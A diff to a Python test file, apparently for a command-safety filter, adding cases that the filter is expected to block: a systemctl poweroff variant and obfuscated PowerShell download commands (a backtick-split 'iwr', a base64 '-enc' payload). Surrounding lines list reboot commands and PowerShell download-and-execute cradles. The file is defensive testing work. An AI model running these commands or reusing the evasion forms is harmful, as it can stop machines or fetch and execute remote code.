@@ -107,6 +107,7 @@ def test_no_file_system_is_made(command: str) -> None:
         "systemctl isolate reboot.target", "systemctl kexec", "systemctl soft-reboot",
         "systemctl start shutdown.target", "systemctl isolate runlevel0.target", "systemctl isolate runlevel6.target",
         "loginctl poweroff", "busybox reboot", "../../sbin/reboot",
+        "systemctl isolate poweroff",
     ],
 )  # fmt: skip
 def test_the_machine_is_not_stopped(command: str) -> None:
@@ -137,7 +138,7 @@ def test_fork_bombs_are_not_started(command: str) -> None:
         "Invoke-WebRequest http://x", "iwr http://x", "IRM x", "Start-BitsTransfer x", "invoke-restmethod x",
         "pwsh -Command 'iwr http://x'", "powershell.exe -c 'IEX (New-Object Net.WebClient).DownloadString(1)'",
         "pwsh -c \"(iwr http://x).Content | iex\"", "pwsh iwr http://x", "powershell -c 'x; Invoke-RestMethod y'",
-        "pwsh -c '[System.Net.Http.HttpClient]::new()'",
+        "pwsh -c '[System.Net.Http.HttpClient]::new()'", "pwsh -c 'i`wr x'", "powershell -enc aQB3AHIAIAB4AA==",
     ],
 )  # fmt: skip
 def test_powershell_downloads_nothing(command: str) -> None:
